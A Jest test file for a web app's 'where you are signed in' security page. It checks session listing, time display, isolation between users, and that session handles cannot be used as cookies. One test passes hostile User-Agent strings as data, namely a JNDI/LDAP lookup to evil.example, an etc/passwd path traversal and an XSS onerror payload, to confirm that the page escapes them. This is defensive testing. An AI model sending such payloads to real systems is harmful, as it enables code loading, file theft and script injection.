import { expect, test } from '@jest/globals';
import { hours, minutes, seconds } from '../../../src/kernel/clock.ts';
import { houseOfThisFile } from '../../support/house.ts';
import { alsoOn, sessionsIn, sessionsSeenBy, sidOf } from '../../support/security.ts';
import { userAgents } from '../../support/user-agents.ts';
import { visitor } from '../../support/visitor.ts';

const house = await houseOfThisFile();

test('a person sees where they are signed in: this device first, then the newest sign-in', async () => {
  const ann = visitor(house);
  ann.headers = { 'User-Agent': userAgents['Safari on Mac'] };
  const { username } = await ann.signUp();
  const names = Object.keys(userAgents) as (keyof typeof userAgents)[];
  for (const name of names) {
    house.clock.pass(minutes(1));
    await alsoOn(house, username, { userAgent: userAgents[name] });
  }
  const [here, ...others] = await sessionsSeenBy(ann);
  const ago = (n: number) => (n === 1 ? '1 minute ago' : n === 0 ? 'just now' : `${n} minutes ago`);
  expect(here).toEqual({
    device: 'Safari on Mac',
    isThisOne: true,
    times: `Signed in ${ago(names.length)} · In use now`,
    handle: null,
  });
  expect(others).toEqual(
    names.toReversed().map((device, n) => ({
      device,
      isThisOne: false,
      times: `Signed in ${ago(n)} · Last seen ${ago(n)}`,
      handle: expect.stringMatching(/^[\w-]{22}$/),
    })),
  );
});

test('seen from another of them, that one is this device', async () => {
  const ann = visitor(house);
  ann.headers = { 'User-Agent': userAgents['Firefox on Linux'] };
  const { username } = await ann.signUp();
  const phone = await alsoOn(house, username, { userAgent: userAgents['Safari on iPhone'] });
  const seen = (await sessionsSeenBy(phone)).map(({ device, isThisOne }) => [device, isThisOne]);
  expect(seen).toEqual([
    ['Safari on iPhone', true],
    ['Firefox on Linux', false],
  ]);
});

test('ages are rough, and a visit is noted to the minute', async () => {
  const ann = visitor(house);
  const { username } = await ann.signUp();
  const phone = await alsoOn(house, username);
  const times = async () => (await sessionsSeenBy(ann))[1]?.times;
  house.clock.pass(minutes(1) - 1);
  await phone.get('/profile');
  house.clock.pass(1);
  expect(await times()).toBe('Signed in 1 minute ago · Last seen 1 minute ago');
  await phone.get('/profile');
  expect(await times()).toBe('Signed in 1 minute ago · Last seen just now');
  house.clock.pass(hours(2) - seconds(1));
  expect(await times()).toBe('Signed in 2 hours ago · Last seen 1 hour ago');
});

test.each([
  ['none', undefined],
  ['nonsense', '%s %n ${jndi:ldap://evil.example} ../../etc/passwd'],
  ['markup', '<img src=x onerror=alert(1)>'],
  ['what every object has', 'constructor/1.0 (x)'],
  ['ten thousand characters', `${userAgents['Firefox on Linux']} ${'evil '.repeat(2_000)}`],
])('a browser that says %s of itself is an unknown device', async (_, userAgent) => {
  const ann = visitor(house);
  const { username } = await ann.signUp();
  await alsoOn(house, username, { userAgent: userAgent ?? ' ' });
  const { status, html } = await ann.get('/settings/security');
  expect([status, sessionsIn(html)[1]?.device]).toEqual([200, 'An unknown device']);
  for (const raw of ['evil.example', 'evil evil', 'onerror', 'etc/passwd', 'constructor', '<img src=x'])
    expect(html).not.toContain(raw);
});

test('nobody sees anybody else’s', async () => {
  const [ann, ben] = [visitor(house), visitor(house)];
  await ann.signUp();
  await ben.signUp();
  expect(await sessionsSeenBy(ann)).toHaveLength(1);
  expect(await sessionsSeenBy(ben)).toHaveLength(1);
});

test('the page names sessions by handles, which open nothing', async () => {
  const ann = visitor(house);
  const { username } = await ann.signUp();
  const phone = await alsoOn(house, username);
  const { html } = await ann.get('/settings/security');
  for (const who of [ann, phone]) expect(html).not.toContain(sidOf(who));
  const handle = sessionsIn(html)[1]!.handle!;
  const eve = visitor(house);
  for (const cookie of [handle, `s%3A${handle}`, phone.sessionCookie!.replace(sidOf(phone), handle)]) {
    eve.cookies.set('sid', cookie);
    expect((await eve.get('/settings/security')).redirectedTo).toBe('/login?next=%2Fsettings%2Fsecurity');
  }
});
